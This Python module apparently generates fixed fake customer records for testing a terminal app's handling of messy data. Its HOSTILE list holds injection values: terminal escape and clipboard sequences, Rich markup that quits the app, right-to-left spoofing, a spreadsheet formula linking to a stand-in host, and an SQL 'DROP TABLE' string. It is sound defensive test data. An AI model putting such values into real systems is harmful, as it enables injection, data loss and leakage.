"""Made-up customers: the same ones in each run, with everything a real export of customers has and lacks.

E-mails and phones are missing, ids come from an older system, families share a mailbox, phones are typed in every way,
and a few people's names were written by somebody who wished us ill.
"""

import random
import uuid
from collections.abc import Callable, Sequence
from typing import Any

from segtui.sandbox.names import Name, Place, places
from segtui.sandbox.segmenter.documents import Document

_SEED = 4711
_OLD_ID_EVERY = 40
"""Every so many customers have an id of the shop's older system, which is no UUID."""
_SHARED_MAILBOX_EVERY = 60
"""Every so many customers have the e-mail of the one before."""
_HOSTILE_EVERY, _FIRST_HOSTILE = 23, 5

_TIERS = ("basic",) * 7 + ("silver",) * 2 + ("gold",)
_FAVOURITES = ("fruit", "bread", "cheese", "fish", "wine", "coffee", "sweets")

HOSTILE: tuple[Document, ...] = (
    {"firstName": "[/red]", "lastName": "VIP"},
    {"firstName": "[@click=app.quit]Jane[/]", "lastName": "[reverse]Doe[/]"},
    {"firstName": "\x1b]52;c;aGVsbG8=\x07Marco", "lastName": "\x1b[2JPolo"},
    {"firstName": "Red\x1b[31m", "lastName": "\x9b1;31mbell\x07\x08\x08", "email": "red\x1b[0m@example.com"},
    {"firstName": "\u202egnp.exe", "lastName": "Ann", "email": "ann\u202emoc.elpmaxe@example.com"},
    {"firstName": "Zero\u200bWidth", "lastName": "\u2060Jo\ufeffiner", "phone": "+39\u00a0351\u20110000000"},
    {"firstName": '=HYPERLINK("http://example.invalid/?x="&A1,"Click me")', "lastName": "@SUM(A1:A9)", "phone": "+1+1"},
    {"firstName": "Two\nLines", "lastName": "of\r\n\tName"},
    {"firstName": "", "lastName": "", "email": "", "phone": ""},
    {
        "firstName": "👩‍👩‍👧‍👦",
        "lastName": "Família 🇮🇹",
        "substitutionTags": [{"tag": "{{greeting}}", "value": "a" * 2000}],
    },
    {"firstName": "Robert'); DROP TABLE persons;--", "lastName": "\\", "externalId": ' crm,10000;"x" '},
    {"firstName": "null", "lastName": "undefined", "email": "no e-mail", "phone": "call the shop"},
)
"""What is laid over some of the first customers."""


def made_people(count: int) -> list[Document]:
    """Make customers in the form in which people are sent, each with at least the tag `city`.

    Args:
        count: How many, the hostile ones included.
    """
    rng = random.Random(_SEED)  # noqa: S311 - made-up people, no secret
    homes = places()
    made: list[Document] = []
    for number in range(count):
        person = _person(rng, rng.choice(homes), number)
        if number % _SHARED_MAILBOX_EVERY == _SHARED_MAILBOX_EVERY - 1 and "email" in made[-1]:
            person["email"] = made[-1]["email"]
        made.append(person)
    for overlay, person in zip(HOSTILE, made[_FIRST_HOSTILE::_HOSTILE_EVERY], strict=False):
        person.update(overlay)
    return made


def tag_of(person: Document, tag: str) -> Any:
    """Read a person's substitution tag, None where there is none."""
    return next((one["value"] for one in person["substitutionTags"] if one["tag"] == tag), None)


def _person(rng: random.Random, home: Place, number: int) -> Document:
    given, family = rng.choice(home.given), rng.choice(home.family)
    person: Document = {
        "externalId": str(uuid.UUID(int=rng.getrandbits(128), version=4)),
        "firstName": given.written,
        "lastName": family.written,
    }
    if number % _OLD_ID_EVERY == _OLD_ID_EVERY - 1:
        person["externalId"] = f"crm-{10_000 + number}"
    if rng.random() < 0.9:  # noqa: PLR2004 - a share of all
        person["phone"] = _phone(rng, home)
    if rng.random() < 0.92:  # noqa: PLR2004 - a share of all
        person["email"] = _email(rng, home, given, family)
    person["substitutionTags"] = _tags(rng, home, given)
    return person


def _phone(rng: random.Random, home: Place) -> str:
    """Write a phone number as people do: mostly in the international form, sometimes with blanks, or as at home."""
    digits = f"{home.phone}{rng.randrange(10_000_000, 100_000_000)}"
    code, _, rest = digits.partition(" ")
    forms: Sequence[Callable[[], str]] = (
        *(lambda: code + rest,) * 8,
        lambda: f"{code} {rest[:3]} {rest[3:]}",
        lambda: f"0{rest}",
    )
    return rng.choice(forms)()


def _email(rng: random.Random, home: Place, given: Name, family: Name) -> str:
    domain = rng.choice((home.domain, "example.com", "example.org"))
    return f"{given.latin}.{family.latin}{rng.randrange(1, 1000)}@{domain}"


def _tags(rng: random.Random, home: Place, given: Name) -> list[Document]:
    values = {
        "city": rng.choice(home.cities),
        "language": home.language,
        "tier": rng.choice(_TIERS),
        "favourite": rng.choice(_FAVOURITES),
        "points": str(rng.randrange(0, 5000)),
        "coupon": f"{given.latin[:4].upper()}{rng.randrange(16**4):04X}",
    }
    names = list(values)
    wanted = names[: rng.choice((1, 3, 4, 4, 6))]
    return [{"tag": name, "value": values[name]} for name in wanted]
